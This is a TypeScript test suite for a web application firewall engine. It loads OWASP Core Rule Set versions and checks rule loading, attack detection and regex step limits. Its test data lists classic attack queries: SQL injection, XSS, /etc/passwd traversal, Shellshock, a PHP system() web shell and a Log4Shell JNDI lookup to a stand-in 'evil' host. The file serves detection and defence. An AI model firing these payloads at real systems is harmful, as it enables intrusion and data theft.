// SPDX-License-Identifier: Apache-2.0
// The OWASP Core Rule Set is brought by whoever uses it: these tests run where a copy of it lies.

import assert from 'node:assert/strict'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { readContext } from '../context.ts'
import { decodeRequest } from '../decode/request.ts'
import { createInjection } from '../injection.ts'
import { compileByteRegex } from '../regex/regex.ts'
import { seclangLimits } from './limits.ts'
import { loadSecRules } from './load.ts'
import type { SecRule } from './rule.ts'

const coreRules = join(import.meta.dirname, '../../../../../../shared/rules-samples/crs4')

const sets = [
  {
    name: 'CRS 4',
    rules: join(coreRules, 'rules'),
    setup: join(coreRules, 'crs-setup.conf.example'),
    level: 'blocking_paranoia_level',
  },
  {
    name: 'CRS 3.3',
    rules: '/usr/share/modsecurity-crs/rules',
    setup: '/etc/modsecurity/crs/crs-setup.conf',
    level: 'paranoia_level',
  },
]

const read = (path: string) => readFileSync(path, 'latin1')
const load = ({ rules, setup, level }: (typeof sets)[number], paranoia: number) =>
  loadSecRules(
    [
      { path: 'crs-setup.conf', text: read(setup) },
      ...readdirSync(rules)
        .filter((name) => name.endsWith('.conf'))
        .sort()
        .map((path) => ({ path, text: read(join(rules, path)) })),
    ],
    {
      files: (name) => (existsSync(join(rules, name)) ? read(join(rules, name)) : undefined),
      variables: { [level]: String(paranoia) },
    },
  )

/** Written from what the rules say of themselves; the first id is of 4, the second of 3.3 where that differs. */
const attacks: readonly (readonly [query: string, id: number, in3?: number])[] = [
  ["q=1' OR '1'='1' -- ", 942100],
  ['q=1 UNION SELECT password FROM users', 942190, 942100],
  ['q=1;DROP TABLE users; --', 942100],
  ['q=sleep(5)', 942160],
  ['q=<script>alert(1)</script>', 941110],
  ['q=<img src=x onerror=alert(1)>', 941160],
  ['q=javascript:alert(document.cookie)', 941170, 941180],
  ['q=../../../../etc/passwd', 930120],
  ['q=;cat /etc/passwd', 932160],
  ['q=() { :; }; /bin/bash', 932171],
  ['q=http://10.0.0.1/shell.php?', 931100],
  ['q=<?php system($_GET[1]); ?>', 933100],
  ['q=$\u007bjndi:ldap://evil/a}', 944150, 932130],
  ['q=java.lang.Runtime', 944130, 944130],
  ['q=a%0d%0aSet-Cookie: x=1', 921160],
]

for (const set of sets) {
  const options = existsSync(set.rules) && existsSync(set.setup) ? {} : { skip: `${set.rules} is not there` }

  test(`DET-1 ${set.name}: every rule over requests loads, but those that ask other services`, options, () => {
    const { problems, rules } = load(set, 2)
    assert(rules.length > 400, `${rules.length} rules`)
    assert.deepEqual(
      problems.map(({ reason }) => reason).filter((reason) => !/@geoLookup|@rbl/.test(reason)),
      [],
    )
  })

  test(`DET-1 ${set.name}: attacks are found, ordinary requests score nothing`, options, () => {
    const { engine } = load(set, 1)
    const injection = createInjection()
    const judge = (query: string) => {
      const headers = [
        ['Host', 'shop.example.com'],
        [
          'User-Agent',
          'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
        ],
        ['Accept', '*/*'],
      ]
      const encoded = query.replace(/[^\w=&%]/g, (char) => `%${char.charCodeAt(0).toString(16).padStart(2, '0')}`)
      const context = readContext({ method: 'GET', path: '/search', query: encoded, headers, address: '192.0.2.1' })
      return engine.evaluate(context, decodeRequest(context), injection)
    }
    const missed: string[] = []
    for (const [query, id, in3] of attacks) {
      const { matches } = judge(query)
      const wanted = set.name === 'CRS 4' ? id : (in3 ?? id)
      if (!matches.some((match) => match.id === wanted))
        missed.push(`${query}: ${matches.map((match) => match.id)}, not ${wanted}`)
    }
    for (const query of [
      'q=running+shoes&page=2',
      'q=caf%C3%A9+au+lait',
      'id=8f14e45f-ceea-467f-a9d3-b5c1e2f0a111&sort=-price',
    ])
      assert.deepEqual(judge(query).matches, [], query)
  })

  test(`DET-1 ${set.name}: no expression takes more steps than are allowed for its worst texts`, options, () => {
    let automata = 0
    for (const first of load(set, 4).rules)
      for (let rule: SecRule | undefined = first; rule !== undefined; rule = rule.next)
        for (const source of sourceOf(rule)) {
          automata += 1
          const regex = compileByteRegex(source)
          for (const text of worstTexts(source)) {
            const meter = { steps: seclangLimits.stepsMax, missed: 0 }
            regex.test(text, meter)
            const spent = seclangLimits.stepsMax - meter.steps
            assert(
              spent < seclangLimits.stepsMax / 2,
              `${first.id}: ${spent} steps for ${text.length} bytes of ${JSON.stringify(text.slice(0, 20))}`,
            )
          }
        }
    assert(automata > 200, `${automata} expressions`)
  })
}

const sourceOf = ({ operatorName, operatorSource }: SecRule) =>
  operatorName === 'rx' && !operatorSource.includes('%{') ? [operatorSource] : []

/** What the expression begins with, over and over, with what it never ends with behind it; and what all of them have in them. */
function worstTexts(source: string): string[] {
  const letters = [...new Set(source.replace(/\\[xnrtsdwSDWbB][0-9a-f]{0,2}|[()[\]{}|*+?^$\\]/g, ''))]
    .slice(0, 12)
    .join('')
  const plain = source.replace(/\(\?[a-z]*:?|[\\()[\]{}|*+?^$]/g, '').slice(0, 40)
  const units = ['\n', ' ', "'", '"', '(', '<', '/*', '1', 'a', `${letters}\n`, plain === '' ? 'x' : plain]
  return units.flatMap((unit) =>
    [1, 64].map((kilobytes) => `${unit.repeat(Math.ceil((kilobytes * 1_024) / unit.length))}\x01`),
  )
}
